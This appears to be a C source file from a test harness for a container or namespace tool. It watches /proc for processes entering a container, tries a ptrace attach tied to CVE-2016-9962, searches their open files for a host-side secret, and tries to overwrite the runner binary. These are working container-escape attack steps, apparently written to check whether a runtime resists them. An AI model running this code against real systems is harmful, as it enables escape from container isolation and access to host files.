// SPDX-License-Identifier: GPL-2.0
/* Ways by those who come in: the processes of nslens exec. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <unistd.h>

#include "intruder.h"

#define COMMAND	"/bin/busybox"

/* It has not executed the command yet, so it is still theirs. */
static bool is_theirs(const char *pid)
{
	char path[300], exe[256] = "";

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	return readlink(path, exe, sizeof(exe) - 1) > 0 && strcmp(exe, COMMAND);
}

/* CVE-2016-9962: before it has let go of what it brought with it. */
static bool attach(const char *pid)
{
	bool out;

	if (!is_theirs(pid) || ptrace(PTRACE_SEIZE, atoi(pid), 0, 0))
		return false;
	out = is_theirs(pid);
	ptrace(PTRACE_DETACH, atoi(pid), 0, 0);
	if (out)
		printf("attached to one\n");
	return out;
}

/* Its working directory, root and open files. */
static bool look(const char *pid, const char *secret)
{
	return !try_descriptors_of(pid, secret) || !try_links_of(pid, secret);
}

/*
 * argv is: device and inode of their program, a file outside, whether to attach,
 * and a file that tells when to give up.
 */
int try_ambush(char **argv)
{
	bool attaches = !strcmp(argv[3], "attach");
	struct dirent *entry;
	DIR *proc = opendir("/proc");
	unsigned int seen = 0;
	bool out = false;

	printf("ready\n");
	fflush(stdout);
	while (proc && !out && access(argv[4], F_OK)) {
		rewinddir(proc);
		while (!out && (entry = readdir(proc))) {
			const char *pid = entry->d_name;

			if (pid[0] < '0' || pid[0] > '9' || !strcmp(pid, "1"))
				continue;
			seen++;
			out = (attaches && attach(pid)) ||
			      look(pid, argv[2]) ||
			      !try_overwrite_runner(argv);
		}
	}
	printf("seen %u times\n", seen);
	return out ? 0 : seen ? EPERM : ENOENT;
}
